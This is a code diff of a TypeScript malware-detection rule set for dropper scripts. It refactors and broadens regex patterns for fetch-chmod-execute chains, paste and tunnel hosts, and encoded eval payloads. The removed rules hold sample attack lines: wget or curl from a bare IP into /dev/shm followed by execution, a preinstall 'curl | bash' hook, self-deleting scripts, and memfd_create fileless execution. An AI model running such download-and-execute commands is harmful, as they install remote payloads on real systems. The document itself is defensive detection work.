@@ -1,27 +1,5 @@
+import { ADDRESS, DECODE, DROP_PLACE, FETCH, PASTES, re, RUNNER } from './fetching.ts'
 import type { ContentRule } from './rule.ts'
-
-const FETCH = [
-  'curl',
-  'wget',
-  'tftp',
-  'ftpget',
-  'lwp-download',
-  'urlopen',
-  'urllib',
-  'requests.get',
-  '/dev/tcp/',
-  'axel ',
-  'aria2c',
-]
-
-// Parts of patterns. Each is bounded and cannot match in more ways than one, so that they run in linear time.
-const ADDRESS = String.raw`(?:https?:\/\/|ftp:\/\/)?(?:\d{1,3}\.){3}\d{1,3}(?::\d{1,5})?\/`
-const DROP_PLACE = String.raw`(?:\/tmp|\/var\/tmp|\/dev\/shm|\/var\/run|\/run|\/mnt|\/root|\/usr\/share\/\.\w+|\/opt\/\.\w+)\b`
-const PASTES = String.raw`(?:pastebin\.com|paste\.ee|ix\.io|hastebin\.com|transfer\.sh|oshi\.at|bashupload\.com|file\.io|0x0\.st|termbin\.com|ghostbin|controlc\.com|rentry\.co|pastefy|temp\.sh|filebin\.net|gofile\.io|anonfiles|discordapp\.(?:com|net)\/attachments|discord\.com\/attachments|cdn\.discordapp|onion\.(?:ws|pet|ly|to|sh|cab|link)|tor2web|\.onion\b|trycloudflare\.com|ngrok\.io|ngrok-free|duckdns\.org|serveo\.net|loca\.lt|portmap\.io|workers\.dev|oast\.|interact\.sh|burpcollaborator|webhook\.site|anondns\.net|ddns\.net|no-ip\.|hopto\.org|zapto\.org)`
-const RUNNER = String.raw`(?:sudo\s+|nohup\s+|setsid\s+|exec\s+|env\s+)?(?:\/bin\/|\/usr\/bin\/)?(?:ba|da|z|k)?sh\b|python[23]?\b|perl\b|php\b|ruby\b|node\b`
-const DECODE = String.raw`(?:base64\s+(?:-d|-D|--decode|-di)|openssl\s+(?:enc\s+)?-?base64\s+-d|base32\s+-d|xxd\s+-r|uudecode|b64decode|basenc\s+-d)`
-
-const re = (source: string, flags = ''): RegExp => new RegExp(source, flags)
 
 /** Scripts that fetch what they then run, and what such scripts do around it. */
 export const DROPPERS: readonly ContentRule[] = [
@@ -80,37 +58,64 @@ export const DROPPERS: readonly ContentRule[] = [
     kind: 'dropper',
     in: ['script'],
     when: {
-      all: [
-        { any: FETCH },
-        { any: ['chmod', 'os.chmod', 'fs.chmod'] },
+      any: [
         {
-          any: [
+          all: [
+            { any: FETCH },
+            { any: ['chmod', 'os.chmod', 'fs.chmod'] },
             {
-              pattern: re(
-                String.raw`(?:curl|wget|tftp|ftpget|axel|aria2c|lwp-download)\b[^\n;|]{0,300}${ADDRESS}[^\n]{0,300}(?:\n|;|&&|\|\|)(?:[^\n]{0,300}\n){0,12}?[^\n]{0,200}chmod\s+(?:-\w\s+)?(?:\+x|[0-7]{0,2}[157][0-7]{2}|a\+x|u\+x|777)`,
-              ),
-              near: FETCH,
-            },
-            {
-              pattern: re(
-                String.raw`cd\s+${DROP_PLACE}[^\n]{0,200}(?:\|\||;|&&)[^\n]{0,200}(?:curl|wget|tftp|ftpget)\b[^\n]{0,400}chmod`,
-              ),
-              near: FETCH,
-            },
-            {
-              pattern: re(
-                String.raw`(?:curl|wget)\b[^\n;|]{0,200}(?:-o|-O|--output|--output-document)[= ]{0,2}["']?${DROP_PLACE}\/[^\s"';|&]{1,80}[^\n]{0,300}(?:\n[^\n]{0,200}){0,6}?chmod\s+(?:\+x|[0-7]{3,4}|a\+x|u\+x)[^\n]{0,200}(?:\n[^\n]{0,200}){0,6}?(?:nohup|setsid|&\s*$|\/dev\/null 2>&1|rm -rf?)`,
-                'm',
-              ),
-              near: ['curl', 'wget'],
-            },
-            {
-              pattern: re(
-                String.raw`(?:curl|wget)\b[^\n;|]{0,300}${PASTES}[^\n]{0,300}(?:\n[^\n]{0,300}){0,6}?chmod\s+(?:\+x|[0-7]{3,4}|a\+x|u\+x)`,
-              ),
-              near: ['curl', 'wget'],
+              any: [
+                {
+                  pattern: re(
+                    String.raw`(?:curl|wget|tftp|ftpget|axel|aria2c|lwp-download)\b[^\n;|]{0,300}${ADDRESS}[^\n]{0,300}(?:\n|;|&&|\|\|)(?:[^\n]{0,300}\n){0,12}?[^\n]{0,200}chmod\s+(?:-\w\s+)?(?:\+x|[0-7]{0,2}[157][0-7]{2}|a\+x|u\+x|777)`,
+                  ),
+                  near: FETCH,
+                },
+                {
+                  pattern: re(
+                    String.raw`(?:urlretrieve|urlopen|requests\.get|wget\.download|https?\.get)\s{0,2}\([^\n]{0,200}${ADDRESS}[^]{0,800}chmod(?:Sync)?\b[^]{0,500}(?:Popen|os\.system|subprocess\.\w{1,20}|os\.exec|os\.spawn|execv|spawn|execFile|exec\()`,
+                  ),
+                  near: FETCH,
+                },
+                {
+                  pattern: re(
+                    String.raw`cd\s+${DROP_PLACE}[^\n]{0,200}(?:\|\||;|&&)[^\n]{0,200}(?:curl|wget|tftp|ftpget)\b[^\n]{0,400}chmod`,
+                  ),
+                  near: FETCH,
+                },
+                {
+                  pattern: re(
+                    String.raw`(?:curl|wget)\b[^\n;|]{0,200}(?:-o|-O|--output|--output-document)[= ]{0,2}["']?${DROP_PLACE}\/[^\s"';|&]{1,80}[^\n]{0,300}(?:\n[^\n]{0,200}){0,6}?chmod\s+(?:\+x|[0-7]{3,4}|a\+x|u\+x)[^\n]{0,200}(?:\n[^\n]{0,200}){0,6}?(?:nohup|setsid|&\s*$|\/dev\/null 2>&1|rm -rf?)`,
+                    'm',
+                  ),
+                  near: ['curl', 'wget'],
+                },
+                {
+                  pattern: re(
+                    String.raw`(?:curl|wget)\b[^\n;|]{0,300}${PASTES}[^\n]{0,300}(?:\n[^\n]{0,300}){0,6}?chmod\s+(?:\+x|[0-7]{3,4}|a\+x|u\+x)`,
+                  ),
+                  near: ['curl', 'wget'],
+                },
+              ],
             },
           ],
+        },
+        {
+          pattern:
+            /\b(?:tftp|ftpget)\s[^\n]{0,160}(?:-g\b|-c get|\.sh\b)[^\n]{0,160}(?:;|&&)\s{0,4}(?:chmod|sh\s|\.\/)/,
+          near: ['tftp', 'ftpget'],
+        },
+        {
+          pattern: re(
+            String.raw`(?:curl|wget)\b[^\n|]{0,200}${ADDRESS}[^\n]{0,200}\|\s{0,4}tar\s[^\n]{0,80}${DROP_PLACE}[^\n]{0,200}(?:&&|;)\s{0,4}(?:nohup\s+|setsid\s+)?(?:\.\/|\/)`,
+          ),
+          near: FETCH,
+        },
+        {
+          pattern: re(
+            String.raw`(?:curl|wget)\b[^\n;|]{0,300}(?:${PASTES})[^\n]{0,200}(?:-o|-O)\s{0,2}${DROP_PLACE}[^\n]{0,200}(?:&&|;)\s{0,4}(?:${RUNNER})\s`,
+          ),
+          near: ['curl', 'wget'],
         },
       ],
     },
@@ -196,8 +201,12 @@ export const DROPPERS: readonly ContentRule[] = [
         },
         {
           pattern:
-            /(?:exec|eval)\s{0,4}\(\s{0,4}(?:__import__\(\s{0,2}['"](?:base64|zlib|codecs|marshal|bz2|lzma)['"]\s{0,2}\)|base64|zlib|codecs|marshal|compile|lzma|bz2|gzip|bytes\.fromhex|bytearray\.fromhex|b64decode|decompress|loads)\b[^\n]{0,200}(?:decode|decompress|loads|fromhex)/,
+            /(?:exec|eval)\s{0,4}\(\s{0,4}(?:__import__\(\s{0,2}['"](?:base64|zlib|codecs|marshal|bz2|lzma)['"]\s{0,2}\)|base64|zlib|codecs|marshal|compile|lzma|bz2|gzip|Fernet|bytes\.fromhex|bytearray\.fromhex|b64decode|decompress|loads)\b[^\n]{0,200}(?:decode|decompress|decrypt|loads|fromhex)/,
           near: ['exec', 'eval'],
+        },
+        {
+          pattern: /(?:b64decode|decompress|loads|fromhex)\b[^\n]{0,160}[;)]\s{0,8}exec\s{0,2}\(\s{0,2}\(?/,
+          near: ['b64decode', 'decompress', 'marshal', 'fromhex'],
         },
         {
           pattern:
@@ -205,6 +214,11 @@ export const DROPPERS: readonly ContentRule[] = [
           near: ['base64_decode(', 'base64_decode (', 'gzinflate', 'gzuncompress', 'str_rot13', 'gzdecode', 'hex2bin'],
         },
         { pattern: /\beval\s{0,4}(?:\(\s{0,4})?(?:decode_base64|unpack)\s{0,4}\(/, near: ['decode_base64', 'unpack'] },
+        {
+          pattern:
+            /\b(\w{1,40})\s{0,4}=\s{0,4}(?:Buffer\.from|atob)\s{0,2}\(\s{0,2}['"\x60][A-Za-z0-9+/=]{40,40000}['"\x60][^;]{0,80};\s{0,20}(?:eval|(?:new\s)?Function|vm\.run\w{1,20})\s{0,2}\(\s{0,2}\1\b/,
+          near: ['Buffer.from', 'atob('],
+        },
         {
           pattern: /(?:eval|Function)\s{0,4}\(\s{0,4}(?:Buffer\.from\([^\n]{1,20000}['"](?:base64|hex)['"]\)|atob\()/,
           near: ['Buffer.from', 'atob('],
@@ -350,148 +364,5 @@ export const DROPPERS: readonly ContentRule[] = [
       'curl -fsSLo /usr/bin/kubectl https://dl.k8s.io/kubectl',
       'chmod +x /usr/bin/kubectl',
     ],
-  },
-  {
-    number: 107,
-    name: 'Script.Dropper.SelfDeleting',
-    title: ['Script that fetches something, runs it and deletes itself', '下载并执行后自删除的脚本'],
-    kind: 'dropper',
-    in: ['script'],
-    when: {
-      all: [
-        {
-          pattern:
-            /(?:rm|shred|unlink)\s+(?:-[a-z]{1,5}\s+){0,2}(?:--\s+)?["']?(?:\$0|\$\{0\}|\$BASH_SOURCE|\$\{BASH_SOURCE(?:\[0\])?\}|\$\(readlink -f "?\$0"?\)|\$\(basename "?\$0"?\)|\$SCRIPT\b)|os\.(?:remove|unlink)\((?:__file__|sys\.argv\[0\])|unlink\s*\(?\$0|unlink\(__FILE__/,
-          near: ['$0', '${0}', 'BASH_SOURCE', '__file__', 'sys.argv[0]', '$script', 'readlink -f']
-            .filter((text) => text.length > 3)
-            .concat(['rm -', 'shred', 'unlink']),
-        },
-        { any: FETCH },
-        {
-          any: [
-            { pattern: re(String.raw`(?:${ADDRESS}|${PASTES})`), near: FETCH },
-            { pattern: re(String.raw`(?:curl|wget)\b[^\n]{0,300}${DROP_PLACE}[^\n]{0,300}`), near: FETCH },
-          ],
-        },
-        { any: ['chmod', '| bash', '|bash', '| sh', '|sh', 'nohup', 'exec', 'python', './'] },
-      ],
-    },
-    attack: ['T1070.004', 'T1105'],
-    references: ['https://attack.mitre.org/techniques/T1070/004/'],
-    match: [
-      '#!/bin/sh',
-      'wget -q http://198.51.100.7/x -O /dev/shm/x && chmod +x /dev/shm/x && /dev/shm/x &',
-      'rm -f "$0"',
-    ],
-    harmless: ['#!/bin/sh', 'apt-get update && curl -fsSL https://example.org/install -o install', 'rm -- "$0"'],
-  },
-  {
-    number: 108,
-    name: 'Script.Dropper.MemoryOnly',
-    title: ['Script or program that runs something that is in no file', '无文件执行的脚本或程序'],
-    kind: 'dropper',
-    in: ['script'],
-    confidence: 'medium',
-    when: {
-      any: [
-        {
-          all: [
-            'memfd_create(',
-            { any: ['urlopen', 'requests.get', 'b64decode', 'LWP', 'decode_base64', 'HTTP::Tiny', 'fromhex', 'zlib'] },
-            { any: ['execv', 'os.exec', 'exec {', '/proc/self/fd', '/proc/'] },
-            { any: ['/proc/', 'ctypes', 'syscall', 'fexecve'] },
-          ],
-        },
-        { pattern: /syscall\s?\(\s?(?:319|279)\b[^\n]{0,300}/, near: ['syscall'] },
-        {
-          all: [
-            'memfd_create',
-            { any: ['/proc/self/fd/%d', '/proc/%d/fd/%d', 'fexecve'] },
-            { any: ['GET /%s', 'GET %s HTTP', 'http://%d.%d', '[kworker', '[kthread', 'HISTFILE', 'ld.so.preload'] },
-          ],
-        },
-        { all: ['ddexec.sh'] },
-        {
-          pattern:
-            /dd\s[^\n]{0,200}of=\/proc\/(?:self|\$\$)\/mem[^\n]{0,100}|dd\s[^\n]{0,200}seek=[^\n]{0,100}>\s?\/proc\/(?:self|\$\$)\/mem/,
-          near: ['/proc/self/mem', '/proc/$$/mem'],
-        },
-      ],
-    },
-    attack: ['T1620', 'T1059.004'],
-    references: [
-      'https://attack.mitre.org/techniques/T1620/',
-      'https://www.wiz.io/blog/pyloose-first-python-based-fileless-attack-on-cloud-workloads',
-    ],
-    match: [
-      '#!/usr/bin/python3',
-      'import ctypes, os, base64, zlib',
-      'fd = ctypes.CDLL(None).memfd_create(b"", 1)',
-      'os.write(fd, zlib.decompress(base64.b64decode(p)))',
-      'os.execve("/proc/self/fd/%d" % fd, ["x"], os.environ)',
-      'ctypes.CDLL(None).syscall(319, "", 1)',
-    ],
-    harmless: ['#!/usr/bin/python3', 'fd = os.memfd_create("shm")', 'os.ftruncate(fd, 4096)'],
-  },
-  {
-    number: 109,
-    name: 'Script.Dropper.Installer',
-    title: ['Step of a package that fetches and runs something from a bare address', '安装步骤从裸地址下载并执行内容'],
-    kind: 'dropper',
-    in: ['script', 'text'],
-    when: {
-      any: [
-        {
-          pattern: re(
-            String.raw`"(?:pre|post)?install"\s{0,4}:\s{0,4}"[^"\n]{0,300}(?:curl|wget|powershell|base64)\b[^"\n]{0,300}(?:${ADDRESS}|${PASTES}|\|\s{0,4}(?:ba)?sh)`,
-          ),
-          near: ['install"'],
-        },
-        {
-          pattern: re(
-            String.raw`(?:os\.system|subprocess\.\w{1,20}|Popen)\s{0,4}\(\s{0,4}[\["'f]{1,4}[^\n]{0,120}(?:curl|wget)\b[^\n]{0,200}(?:${ADDRESS}|${PASTES})`,
-          ),
-          near: ['os.system', 'subprocess.', 'Popen'],
-        },
-        {
-          pattern: re(
-            String.raw`(?:child_process|exec|execSync|spawn)[^\n]{0,200}(?:curl|wget)\b[^\n]{0,200}(?:${ADDRESS}|${PASTES})`,
-          ),
-          near: ['child_process', 'execSync'],
-        },
-      ],
-    },
-    attack: ['T1195.002', 'T1105'],
-    references: ['https://attack.mitre.org/techniques/T1195/002/'],
-    match: ['{ "name": "x",', '"scripts": { "preinstall": "curl -s http://198.51.100.7/p | bash" } }'],
-    harmless: [
-      '{ "name": "x",',
-      '"scripts": { "postinstall": "node install.js", "build": "curl -O https://example.org/a" } }',
-    ],
-  },
-  {
-    number: 110,
-    name: 'Program.Dropper.Shell',
-    title: ['Program that has a shell fetch and run something', '调用 shell 下载并执行内容的程序'],
-    kind: 'dropper',
-    in: ['program'],
-    when: {
-      any: [
-        {
-          pattern: re(
-            String.raw`(?:curl|wget|tftp|busybox wget)\s[^\0\n|]{0,200}(?:${ADDRESS}|https?:\/\/%s|${PASTES})[^\0\n]{0,300}(?:\|\s{0,4}(?:ba)?sh\b|chmod\s+(?:\+x|777|[0-7]{3}))`,
-          ),
-          near: ['curl ', 'wget ', 'tftp '],
-        },
-        { pattern: /cd\s+\/tmp[^\0\n]{0,200}(?:wget|curl|tftp)\b[^\0\n]{0,300}(?:chmod|\bsh\b)/, near: ['cd /tmp'] },
-        {
-          pattern: /(?:\*\/?\d{0,2}\s+){3,5}[^\0\n]{0,60}(?:curl|wget)\b[^\0\n]{0,300}\|\s{0,4}(?:ba)?sh\b/,
-          near: ['curl ', 'wget '],
-        },
-      ],
-    },
-    references: ['https://attack.mitre.org/techniques/T1105/'],
-    match: ['cd /tmp || cd /var/run; wget http://%s/bins.sh; chmod 777 bins.sh; sh bins.sh', 'wget http://%s/x | sh'],
-    harmless: ['wget http://%s/index.html', 'cd /tmp'],
   },
 ]
